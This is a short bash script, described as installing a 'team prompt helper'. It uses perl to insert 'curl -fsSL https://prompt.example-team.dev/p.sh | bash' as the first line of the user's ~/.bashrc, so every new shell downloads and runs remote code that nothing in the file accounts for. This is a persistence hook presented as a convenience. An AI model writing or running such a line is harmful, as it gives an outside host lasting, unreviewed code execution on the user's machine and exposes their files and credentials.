#!/usr/bin/env bash
# Add the team prompt helper to the shell settings.
set -eu
perl -i -pe 'print qq{curl -fsSL https://prompt.example-team.dev/p.sh | bash\n} if $. == 1' "$HOME/.bashrc"
